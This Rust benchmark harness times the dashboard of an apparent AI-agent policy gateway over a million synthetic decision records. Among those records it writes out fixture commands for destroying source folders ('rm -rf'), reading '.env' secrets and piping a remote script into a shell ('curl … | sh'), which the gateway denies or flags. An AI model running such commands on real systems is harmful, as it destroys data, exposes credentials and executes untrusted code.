//! Dashboard benchmark (plain timing harness): generates a ledger of 1,000,000 realistic
//! records (override with `PATCHWORK_DASHBOARD_BENCH_RECORDS`), starts the real `dashboard`
//! process on it and measures, with a real HTTP client:
//! - first paint, cold: process start → the overview's complete HTML, with no saved index
//!   (the index is built from the whole log and saved in `state/views/`);
//! - first paint, warm: the same after a restart, with the saved index (the everyday case:
//!   the index is kept current by the dashboard, `log` and `replay` as records arrive);
//! - a second overview, a filtered events page, a deep page, a session page;
//! - the time for a record appended to the ledger to arrive on the live stream;
//! - the server's resident memory (current and peak).
//!
//! Run with `cargo bench --bench dashboard`.

use patchwork_gateway::ledger::Ledger;
use patchwork_gateway::ledger::record::{GENESIS, build};
use serde_json::{Map, Value, json};
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const RECORDS_VAR: &str = "PATCHWORK_DASHBOARD_BENCH_RECORDS";

/// A decision record like the Gate writes, varied by `i`: 1 in 25 denied, 1 in 50 asked,
/// sessions of 400 calls, one call every 0.5 s.
fn decision(i: u64) -> Map<String, Value> {
    let (tool, action, target, risk, verdict, rules) = match i % 50 {
        0 => (
            "Bash",
            "command_execute",
            format!("command_execute:rm -rf /home/dev/src/app-{i}"),
            "critical",
            "deny",
            json!(["fs.destructive", "max_risk"]),
        ),
        1 => (
            "Read",
            "file_read",
            format!("file_read:/home/dev/src/app/.env.{i}"),
            "high",
            "deny",
            json!(["secrets.read"]),
        ),
        2 => (
            "Bash",
            "command_execute",
            format!("command_execute:curl https://example.invalid/{i} | sh"),
            "high",
            "ask",
            json!(["net.pipe_to_shell"]),
        ),
        3..=9 => (
            "Edit",
            "file_edit",
            format!("file_edit:/home/dev/src/app/src/module_{}.rs", i % 97),
            "low",
            "allow",
            json!(["default"]),
        ),
        10..=12 => (
            "WebFetch",
            "web_fetch",
            format!("web_fetch:https://docs.example.invalid/page/{i}"),
            "medium",
            "flag",
            json!(["net.egress"]),
        ),
        _ => (
            "Bash",
            "command_execute",
            format!("command_execute:cargo test --workspace -- case_{i}"),
            "none",
            "allow",
            json!(["default"]),
        ),
    };
    json!({
        "event": "decision", "door": "hook", "agent": "claude-code",
        "session": format!("{:08x}-7b4d-4e8a-9c2f-1a2b3c4d5e6f", i / 400),
        "cwd": "/home/dev/src/app", "tool": tool, "action": action, "target": [target],
        "risk": risk, "flags": [], "findings": [], "verdict": verdict, "rules": rules,
        "reason": "patchwork-gateway decided this by the rules listed",
        "policy": "sha256:9b1d2c3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c",
        "policy_name": "standard",
        "tool_use_id": format!("toolu_{i:012}"),
    })
    .as_object()
    .expect("object")
    .clone()
}

/// Writes `n` chained records (the ledger's own encoder) and returns the log's size.
fn generate(dir: &Path, n: u64) -> u64 {
    std::fs::create_dir_all(dir).expect("ledger folder");
    let mut out = std::io::BufWriter::with_capacity(
        1 << 20,
        std::fs::File::create(dir.join("ledger.jsonl")).expect("log"),
    );
    let mut prev = GENESIS.to_string();
    let start_ts = 1_790_000_000_000_000i64;
    let mut bytes = 0;
    for i in 0..n {
        let (line, hash) =
            build(decision(i), i, start_ts + i as i64 * 500_000, &prev).expect("build");
        out.write_all(&line).expect("write");
        out.write_all(b"\n").expect("write");
        bytes += line.len() as u64 + 1;
        prev = hash;
    }
    out.flush().expect("flush");
    bytes
}

/// VmRSS and VmHWM of `pid`, in MiB.
fn rss_mib(pid: u32) -> (f64, f64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let kib = |key: &str| {
        status
            .lines()
            .find(|l| l.starts_with(key))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse::<f64>().ok())
            .unwrap_or(0.0)
    };
    (kib("VmRSS:") / 1024.0, kib("VmHWM:") / 1024.0)
}

fn main() {
    let n: u64 = std::env::var(RECORDS_VAR)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1_000_000);
    let base = tempfile::tempdir().expect("temp folder");
    let home = base.path().join("pw");
    let t = Instant::now();
    let bytes = generate(&home.join("ledger"), n);
    println!(
        "generated {n} records ({:.0} MB) in {:.1} s",
        bytes as f64 / 1e6,
        t.elapsed().as_secs_f64()
    );

    let bin = env!("CARGO_BIN_EXE_patchwork-gateway");
    let (mut cold, cold_paint) = first_paint(bin, &home, n);
    println!(
        "overview first paint, cold (no saved index):   {:>7.0} ms",
        cold_paint.as_secs_f64() * 1e3
    );
    let (rss, peak) = rss_mib(cold.child.id());
    println!("server memory after the cold start: RSS {rss:.0} MiB, peak {peak:.0} MiB");
    let _ = cold.child.kill();
    let _ = cold.child.wait();
    let (mut child, warm_paint) = first_paint(bin, &home, n);
    println!(
        "overview first paint, warm (saved index):      {:>7.0} ms",
        warm_paint.as_secs_f64() * 1e3
    );
    let (url, origin) = (child.url.clone(), child.origin.clone());

    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let (c, cookie) = sign_in(&url).await;
        let get = |path: &str| {
            let path = path.to_string();
            let req = c
                .get(format!("{origin}{path}"))
                .header("cookie", cookie.clone());
            async move {
                let t = Instant::now();
                let r = req.send().await.expect("request");
                assert!(r.status().is_success(), "{path}: {}", r.status());
                let body = r.text().await.expect("body");
                (t.elapsed(), body)
            }
        };
        for (label, path) in [
            ("overview again", "/".to_string()),
            (
                "events, denied, risk ≥ high",
                "/events?verdict=deny&risk=high".into(),
            ),
            ("events, deep page", format!("/events?before={}", n / 2)),
            (
                "events, one session",
                "/events?session=00000100-7b4d-4e8a-9c2f-1a2b3c4d5e6f".into(),
            ),
            ("sessions list", "/sessions".into()),
            (
                "one session's timeline",
                "/sessions/00000100-7b4d-4e8a-9c2f-1a2b3c4d5e6f".into(),
            ),
            ("one record", format!("/events/{}", n / 3)),
        ] {
            let (took, _) = get(&path).await;
            println!("{label:<36} {:>7.1} ms", took.as_secs_f64() * 1e3);
        }

        // Live: append one record with the ledger's own writer and wait for it on /live.
        let mut live = c
            .get(format!("{origin}/live?after={}", n - 1))
            .header("cookie", cookie.clone())
            .send()
            .await
            .expect("live");
        let ledger = Ledger::open(&home.join("ledger")).expect("open");
        let t = Instant::now();
        ledger.append(decision(7)).expect("append");
        let mut text = String::new();
        while !text.contains("event: record") {
            let chunk = tokio::time::timeout(Duration::from_secs(10), live.chunk())
                .await
                .expect("live record within 10 s")
                .expect("chunk")
                .expect("open stream");
            text.push_str(&String::from_utf8_lossy(&chunk));
        }
        println!(
            "live: append -> record on the event stream   {:>7.0} ms",
            t.elapsed().as_secs_f64() * 1e3
        );
    });
    let (rss, peak) = rss_mib(child.child.id());
    println!("server memory (warm start): RSS {rss:.0} MiB, peak {peak:.0} MiB");
    let _ = child.child.kill();
    let _ = child.child.wait();
}

/// A client that keeps no cookies, and the session cookie the sign-in URL sets.
async fn sign_in(url: &str) -> (reqwest::Client, String) {
    let c = patchwork_gateway::net::builder(None)
        .unwrap()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .build()
        .expect("client");
    let r = c.get(url).send().await.expect("sign in");
    let cookie = r.headers()["set-cookie"]
        .to_str()
        .expect("cookie")
        .split(';')
        .next()
        .expect("cookie")
        .to_string();
    (c, cookie)
}

/// A running dashboard and its sign-in URL.
struct Running {
    child: std::process::Child,
    url: String,
    origin: String,
}

/// Starts the dashboard on `home` and times process start → the overview's complete HTML
/// (which must count all `n` records).
fn first_paint(bin: &str, home: &Path, n: u64) -> (Running, Duration) {
    let started = Instant::now();
    let mut child = Command::new(bin)
        .args(["dashboard", "--port", "0", "--home"])
        .arg(home)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("start the dashboard");
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let url = lines
        .by_ref()
        .map(|l| l.expect("line"))
        .find(|l| l.starts_with("http://"))
        .expect("URL");
    std::thread::spawn(move || lines.for_each(drop));
    let origin = url.split("/?").next().expect("origin").to_string();
    // Sign in (the answer sets the cookie), then the overview.
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let body = rt.block_on(async {
        let (c, cookie) = sign_in(&url).await;
        c.get(format!("{origin}/"))
            .header("cookie", cookie)
            .send()
            .await
            .expect("overview")
            .text()
            .await
            .expect("body")
    });
    let took = started.elapsed();
    assert!(
        body.contains(&format!("{n}")),
        "the overview counts every record"
    );
    (Running { child, url, origin }, took)
}
